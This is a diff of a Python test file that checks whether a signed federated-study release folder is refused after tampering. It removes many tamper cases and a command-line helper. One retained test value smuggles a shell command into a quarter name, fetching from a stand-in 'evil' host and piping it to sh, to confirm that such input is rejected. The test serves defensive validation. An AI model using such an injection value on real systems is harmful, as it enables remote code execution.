@@ -1,10 +1,8 @@
 """A quarter that was altered is refused, whoever has signed it again."""
 
 import json
-import os
 import re
 import shutil
-import zipfile
 from dataclasses import replace
 
 import numpy as np
@@ -12,11 +10,10 @@ import pytest
 from quarters import hospitals, quarter, sealed_of
 from refusals import refused
 
-from fedcal.cli.main import main
 from fedcal.run.rereading import read_release
 from fedcal.secure_aggregation.keys import SigningKey, make_key
 from fedcal.sites.quarter import QuarterFacts, earlier_of, write_quarter
-from fedcal.sites.sealed import Sealed, signed_text, write_signature
+from fedcal.sites.sealed import Sealed, write_signature
 from fedcal.sites.verify import sign, verify
 
 pytestmark = pytest.mark.usefixtures("quick_figures")
@@ -104,39 +101,24 @@ def other_terms(folder):
 ALTERED = [
     (told(gap_of_cedar), "says sites.cedar.gap.value"),
     (told(other_version), "gap.value .* .by fedcal 9.9, this is "),
-    (told(lambda t: t.update(headline="All is well.")), "says headline = 'All is well.'"),
-    (told(lambda t: t.update(noise_std=0.5)), "says noise_std = 0.5"),
     (told(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
-    (told(lambda t: t["since"].clear()), "says changes"),
     (told(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
-    (told(lambda t: t["more"].clear()), "the more is"),
-    (told(lambda t: t.pop("curves")), "says curves = None"),
-    (page("absent", "there"), "report.html is not what fedcal"),
     (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
     (release("release", counts=3.0), "the release gives"),
     (release("release", std=1.0), "the release's noise is"),
-    (release("release", threshold=0.3), "the release's threshold is"),
     (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's taken is"),
     (release("release", law="normal"), "the release's law is"),
     (release("release", privacy='["All is exact."]'), "the release's privacy is"),
     (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
     (told(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
     (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
-    (told(lambda t: t.update(date="20270101")), "date is '20270101'"),
     (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
-    (told(lambda t: t.update(spent=1.5, left=2.5)), "releases paid for is '1.5"),
-    (told(lambda t: t.update(spent=5.0, left=-1.0)), "is not 4"),
     (told(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
-    (told(lambda t: t["versions"].update(fedcal=1)), "does not hold"),
     (told(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
     (told(lambda t: t.update(since=5)), "does not hold"),
-    (release("earlier-2026Q4", counts=1.0), "the release gives|is not the release of"),
     (swapped_roster, "the roster is"),
     (other_terms, "the "),
     (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
-    (lambda f: (f / "ledger.json").unlink(), "ledger.json is not what"),
-    (lambda f: (f / "release.npz").unlink(), "release"),
-    (lambda f: (f / "study.sealed").unlink(), "No such file"),
 ]
 
 
@@ -182,23 +164,16 @@ def test_what_cannot_be_read_beside_a_quarter_stops_no_release_that_is_paid(fold
         assert [*earlier_of(folder.parent / "2027Q2", STUDY)] == ["2027Q1"]
 
 
-def command(capsys, *arguments):
-    with pytest.raises(SystemExit) as ended:
-        main([*map(str, arguments)])
-    assert ended.value.code == 0
-    return capsys.readouterr().out
-
-
 @pytest.mark.slow
-def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, capsys):
+def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, call):
     folder, path = tmp_path / "q", tmp_path / "key.pem"
     key = make_key(path)
     quarter(folder, STUDY, key)
     refused("not signed. fedcal study verify", verify, folder)
     refused("by the coordinator that sealed", sign, folder, KEY)
-    assert "is signed" in command(capsys, "study", "verify", folder, "--key", path)
-    assert "Not checked: the coordinator's key" in command(capsys, "study", "verify", folder)
-    command(capsys, "report", folder)
+    assert "is signed" in call("study", "verify", folder, "--key", path)
+    assert "Not checked: the coordinator's key" in call("study", "verify", folder)
+    call("report", folder)
     assert verify(folder)  # the page that was written again is the same
     write_signature(folder, KEY)
     refused("is signed by another key", verify, folder)
@@ -210,13 +185,9 @@ def test_a_rehearsal_is_verified_and_said_to_be_one(tmp_path):
     folder = tmp_path / "r"
     quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
     assert "A rehearsal" in verify(folder)[0]
-    for change, word in (
-        (lambda told: told.update(one_machine=True), "one_machine"),
-        (lambda told: told.update(roster="0" * 64), "roster"),
-    ):
-        shutil.copytree(folder, forged := tmp_path / word / "r")
-        told(change)(forged)
-        refused(word, verify, forged)
+    shutil.copytree(folder, forged := tmp_path / "forged" / "r")
+    told(lambda told: told.update(roster="0" * 64))(forged)
+    refused("roster", verify, forged)
     (folder / "signature.json").write_text("{}")
     refused("signature.json is not what", verify, folder)
     (folder / "signature.json").unlink()
@@ -256,120 +227,11 @@ def count(site, value):
     return lambda folder: made_anew(folder, change)
 
 
-def packed(change):
-    """The arrays of the release, written anew with others beside them."""
-
-    def alter(folder):
-        path = folder / "release.npz"
-        with np.load(path) as old:
-            arrays = {name: old[name] for name in old.files}
-        change(arrays)
-        np.savez_compressed(path, **arrays)
-        write_signature(folder, KEY)
-
-    return alter
-
-
-def header(change):
-    def alter(arrays):
-        plain = json.loads(str(arrays["header"]))
-        change(plain)
-        arrays["header"] = np.array(json.dumps(plain))
-
-    return packed(alter)
-
-
-def archive(write):
-    def alter(folder):
-        with zipfile.ZipFile(folder / "release.npz", "a") as file:
-            write(file)
-        write_signature(folder, KEY)
-
-    return alter
-
-
-def trailing(folder):
-    """Bytes behind the numbers of an array, which NumPy does not read."""
-    path = folder / "release.npz"
-    with zipfile.ZipFile(path) as file:
-        members = {info.filename: file.read(info) for info in file.infolist()}
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
-        for name, content in members.items():
-            file.writestr(name, content + b"exact counts" * (name == "counts.npy"))
-    write_signature(folder, KEY)
-
-
-def beside(name, make=lambda path: path.write_text("exact counts"), signed=False):
-    def alter(folder):
-        make(folder / name)
-        if signed:
-            write_signature(folder, KEY)
-
-    return alter
-
-
-def sealed_with(**more):
-    def alter(folder):
-        fields = json.loads((folder / "study.sealed").read_text()) | more
-        (folder / "study.sealed").write_text(signed_text(fields, "study-sealed", KEY))
-        write_signature(folder, KEY)
-
-    return alter
-
-
-def signature_with_more(folder):
-    fields = json.loads((folder / "signature.json").read_text()) | {"note": "exact counts"}
-    (folder / "signature.json").write_text(signed_text(fields, "study-quarter", KEY))
-
-
 ATTACKS = {
     "the note is erased": (lambda f: made_anew(f, one_machine=False), "one machine is False"),
     "a count below the noise": (count("cedar", -1000.0), "impossible counts"),
-    "a count of no grid": (count("cedar", 2.0**-30), "impossible counts"),
-    "a count of a tenth": (count("cedar", 0.1), "impossible counts"),
     "an absent site has rows": (count("birch", 500.0), "impossible counts"),
     "rows that were assigned": (lambda f: made_anew(f, dealt=True), "dealt is True"),
-    "one more array": (packed(lambda a: a.update(rows=np.arange(3))), "release.npz is not what"),
-    "one array as another type": (
-        packed(lambda a: a.update(counts=a["counts"].astype(">f8"))),
-        "release.npz is not what",
-    ),
-    "one more header": (header(lambda h: h.update(note="exact")), "release.npz is not what"),
-    "one more member": (archive(lambda z: z.writestr("note.txt", "exact")), "is not an array"),
-    "a comment": (archive(lambda z: setattr(z, "comment", b"exact")), "release.npz is not what"),
-    "a comment at a member": (
-        archive(lambda z: (setattr(z.infolist()[0], "comment", b"x"), setattr(z, "_didModify", 1))),
-        "release.npz is not what",
-    ),
-    "bytes in front": (
-        beside(
-            "release.npz", lambda path: path.write_bytes(b"exact" + path.read_bytes()), signed=True
-        ),
-        "release.npz is not what",
-    ),
-    "bytes behind an array": (trailing, "release.npz': member .counts. is truncated"),
-    "spaces in a summary": (
-        beside("study.json", lambda path: path.write_text(path.read_text() + " "), signed=True),
-        "study.json is not what",
-    ),
-    "a comment in the study": (
-        beside("study.toml", lambda path: path.write_text(path.read_text() + "# x"), signed=True),
-        "study.toml is not what",
-    ),
-    "a file": (beside("counts.csv"), "counts.csv must be None"),
-    "a hidden file": (beside(".counts"), "counts must be None"),
-    "a figure": (beside("curve-2.svg"), "curve-2.svg must be None"),
-    "a folder": (beside("more", lambda path: path.mkdir()), "more is not a file of a quarter"),
-    "a link": (
-        beside("page.html", lambda path: path.symlink_to("report.html")),
-        "page.html is not a file of a quarter",
-    ),
-    "a pipe": (beside("pipe", os.mkfifo), "pipe is not a file of a quarter"),
-    "a signed file": (beside("counts.csv", signed=True), "counts.csv is not what"),
-    "a signed figure": (beside("curve-2.svg", signed=True), "curve-2.svg is not what"),
-    "a signed earlier one": (beside("earlier-x.npz", signed=True), "earlier-x.npz is not what"),
-    "more in the sealed study": (sealed_with(note="exact"), "unknown key of .* 'note'"),
-    "more in the signature": (signature_with_more, "unknown key of .* 'note'"),
 }
 
 
